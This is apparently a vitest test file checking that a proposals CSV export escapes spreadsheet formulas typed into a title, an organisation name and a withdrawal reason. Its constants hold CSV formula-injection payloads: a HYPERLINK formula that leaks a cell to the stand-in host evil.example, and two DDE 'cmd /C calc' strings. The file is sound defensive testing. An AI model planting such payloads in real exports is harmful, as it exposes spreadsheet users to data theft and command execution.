import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import type { Db } from "@/db/client";
import { proposals } from "@/db/schema";
import { setClock } from "@/lib/clock";
import { admitTestMember } from "@/test/coalitions";
import { FORMULA_STARTS, parseCsv, readStream } from "@/test/csv";
import { testDb } from "@/test/db";
import { AFTER_SUBMISSION, createScenario } from "@/test/proposals";
import { exportProposalsCsv } from "./review";
import { createProposal, updateProposal, withdrawProposal } from "./service";

/**
 * Formula injection through the promoters' CSV (issue 8, item 4): what a lead types —
 * the title, the withdrawal reason, its organisation's name — comes out as text that a
 * spreadsheet shows and never runs.
 */

let db: Db;
beforeAll(async () => {
  db = await testDb();
});

const TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Apri")';
const LEAD_NAME = "-2+3+cmd|' /C calc'!A0 S.r.l.";
const REASON = "@SUM(1+1)*cmd|' /C calc'!A0";

describe("exportProposalsCsv and formulas typed by a lead", () => {
  it("neutralises the title, the lead's name and the reason; the amounts and dates stay typed", async () => {
    const s = await createScenario(db);
    // An organisation registered with a formula for a name, through the organisation service.
    const attacker = await admitTestMember(db, s.coalition, { input: { legalName: LEAD_NAME, sizeClass: "small" } });
    const { proposalId } = await createProposal(db, attacker.admin.actor, { callId: s.callId, leadOrganisationId: attacker.organisationId, title: "Bozza" });
    await updateProposal(db, attacker.admin.actor, {
      proposalId,
      version: 1,
      title: TITLE,
      summary: "s",
      problem: "p",
      solutionType: "erp",
      objectives: "o",
      indicators: [],
      milestones: [],
      durationMonths: "",
      sectors: [],
      lookingForKinds: [],
      requested: "",
    });
    // Submission itself is covered elsewhere; here only what the file shows matters.
    await db.update(proposals).set({ status: "submitted", submittedAt: new Date(), reference: `INJ-${proposalId.slice(0, 6)}-0001` }).where(eq(proposals.id, proposalId));
    await withdrawProposal(db, attacker.admin.actor, { proposalId, reason: REASON });

    setClock(AFTER_SUBMISSION);
    const { body: stream } = await exportProposalsCsv(db, s.coalition.promoter.admin.actor, s.callId);
    const body = await readStream(stream);
    const [header, ...records] = parseCsv(body);
    const record = records.find((r) => r[0] === `INJ-${proposalId.slice(0, 6)}-0001`)!;
    const column = (name: string) => record[header.indexOf(name)];
    expect(column("Titolo")).toBe(`'${TITLE}`);
    expect(column("Capofila")).toBe(`'${LEAD_NAME}`);
    expect(column("Motivazione")).toBe(`'${REASON}`);
    expect(column("Stato")).toBe("Ritirata");
    expect(column("Costo totale (EUR)")).toBe("0,00");
    for (const r of records) for (const cell of r) expect(FORMULA_STARTS.some((c) => cell.startsWith(c)), cell).toBe(false);
  });
});
